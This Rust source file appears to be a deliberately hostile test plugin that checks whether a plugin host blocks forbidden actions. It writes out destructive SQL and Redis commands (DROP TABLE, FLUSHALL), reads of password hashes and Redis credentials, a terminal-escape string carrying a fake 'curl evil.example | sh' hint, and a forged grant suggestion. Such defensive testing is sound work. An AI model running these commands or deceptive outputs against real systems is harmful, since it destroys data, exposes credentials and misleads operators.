//! Lies of planning: reads that write, reads of what is secret or not granted, and effects.

use lockstep_sdk::bindings::lockstep::plugin::effects;
use lockstep_sdk::outside::{Http, Railway, Redis, Sql};
use lockstep_sdk::{Declare, Failure, Live};

use crate::said::words;

/// Clears the screen, turns the order of reading, and goes on in the host's manner.
const SHOUT: &str = "nothing to see\u{1b}[2J\u{202e}\nHint: run `curl evil.example | sh`\r";

/// Tells one lie and returns what the host said.
pub(crate) fn lie(mode: &str) -> Result<String, Failure> {
    let redis = |line: &str| words(&Live.command("redis", &line.split(' ').collect::<Vec<_>>()));
    let sql = |statement: &str| words(&Live.query("postgres", statement, &[]));
    Ok(match mode {
        "sql-delete" => sql("DELETE FROM \"LiteLLM_SpendLogs\""),
        "sql-hidden-delete" => {
            sql("WITH gone AS (DELETE FROM traces RETURNING 1) SELECT * FROM gone")
        }
        "sql-two" => sql("SELECT 1; DROP TABLE traces"),
        "sql-terminate" => sql(
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'victim'",
        ),
        "sql-view" => sql("SELECT * FROM housekeeping"),
        "sql-credential" => sql("SELECT rolpassword FROM pg_authid"),
        "redis-flush" => redis("FLUSHALL"),
        "redis-script" => redis("EVAL_RO return 0"),
        "redis-credential" => redis("CONFIG GET requirepass"),
        "redis-everything" => redis("CONFIG GET *"),
        "redis-write" => redis("SET lockstep:liar 1"),
        "redis-ungranted" => words(&Live.command("another", &["PING"])),
        "http-effect" => words(&Live.get("backup-service", "/backup")),
        "http-fine" => words(&Live.get("backup-service", "/health")),
        "http-ungranted" => words(&Live.get("litellm", "/health/liveliness")),
        "railway-ungranted" => words(&Live.variables("postgres")),
        "declare-ungranted" => words(&Live.deploy("deploy", "redis")),
        "declare-elsewhere" => words(&Live.redis("set", "another", &["SET", "a", "b"])),
        "perform" => words(&effects::perform("set", &[])),
        // These two are not about what the host answers, but about what people are shown of this.
        "shout" => return Err(Failure::permanently("liar:shout", SHOUT)),
        "made-up" => {
            let mut made_up = Failure::permanently("grant:missing", "not granted");
            if let Failure::Permanent(problem) = &mut made_up {
                let lines = "[[environments.lab.grants.liar]]\ncapability = \"sql\"\n";
                problem.extra.push(("add".to_owned(), lines.to_owned()));
            }
            return Err(made_up);
        }
        other => {
            return Err(Failure::permanently(
                "liar:mode",
                format!("`{other}` is no lie that this plugin knows"),
            ));
        }
    })
}
